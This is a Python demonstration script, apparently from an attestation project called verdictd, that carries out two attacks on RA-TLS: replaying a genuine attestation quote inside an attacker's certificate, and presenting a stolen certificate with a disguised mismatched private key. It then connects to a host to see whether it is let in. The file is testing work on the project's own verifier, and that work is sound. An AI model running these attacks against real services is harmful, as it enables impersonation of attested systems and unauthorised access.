"""Two attackers who have seen a genuine attestation and try to be let in with it. Used by the demonstration only.

`replay` puts a genuine quote into a certificate of its own; `steal` presents a genuine certificate without its key.
Both speak TLS with plain OpenSSL, since the project's own client would not do either.
"""

import argparse
import socket
import sys
import warnings
from datetime import UTC, datetime
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from OpenSSL import SSL, crypto

from verdictd.ratstls.certificate import attestation_id
from verdictd.ratstls.certificate_builder import PrivateKey, build_identity

Loot = tuple[bytes, bytes]
"""A certificate and a private key for it, both DER."""


def replay(quote: bytes) -> Loot:
    """A new key with somebody else's evidence: the key is the attacker's, the evidence is genuine."""
    identity = build_identity(at=datetime.now(UTC), make_quote=lambda _: quote)
    return identity.certificate_der, encode_key(identity.private_key)


def steal(certificate_der: bytes) -> Loot:
    """Somebody else's certificate with a key of one's own, disguised so that OpenSSL takes the two for a pair."""
    victim = x509.load_der_x509_certificate(certificate_der).public_key()
    own = ec.generate_private_key(ec.SECP256R1())
    if not isinstance(victim, ec.EllipticCurvePublicKey):
        raise SystemExit("the stolen certificate's key is not an EC key")
    return certificate_der, encode_key(own).replace(encode_point(own.public_key()), encode_point(victim))


def encode_key(key: PrivateKey) -> bytes:
    """Write a private key with its public key beside it."""
    form = serialization.PrivateFormat.TraditionalOpenSSL
    return key.private_bytes(serialization.Encoding.DER, form, serialization.NoEncryption())


def encode_point(key: ec.EllipticCurvePublicKey) -> bytes:
    """Write a public key as the point that it is."""
    return key.public_bytes(serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)


def knock(loot: Loot, host: str, port: int) -> str:
    """Connect with the loot, send a request, and return what became of it."""
    certificate, key = loot
    context = SSL.Context(SSL.TLS_CLIENT_METHOD)
    context.set_verify(SSL.VERIFY_PEER, lambda *_: True)
    context.use_certificate(x509.load_der_x509_certificate(certificate))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the library's own class for keys, which does not look at the disguise
        context.use_privatekey(crypto.load_privatekey(crypto.FILETYPE_ASN1, key))
    connection = SSL.Connection(context, socket.create_connection((host, port), timeout=20))
    connection.set_connect_state()
    connection.setblocking(1)
    try:
        connection.do_handshake()
        connection.sendall(b'{"command":"version"}')
        return f"LET IN: {connection.recv(4096).decode()}"
    except SSL.Error as error:
        return f"turned away: {error}"


def main() -> int:
    """Attack, and exit 1 if turned away."""
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=("replay", "steal"))
    parser.add_argument("loot", type=Path, help="a genuine quote to replay, or a genuine certificate (DER) to steal")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    arguments = parser.parse_args()
    loot = arguments.loot.read_bytes()
    prepared = replay(loot) if arguments.attack == "replay" else steal(loot)
    print(f"attestation id {attestation_id(prepared[0])}")
    outcome = knock(prepared, arguments.host, arguments.port)
    print(outcome)
    return 0 if outcome.startswith("LET IN") else 1


if __name__ == "__main__":
    sys.exit(main())
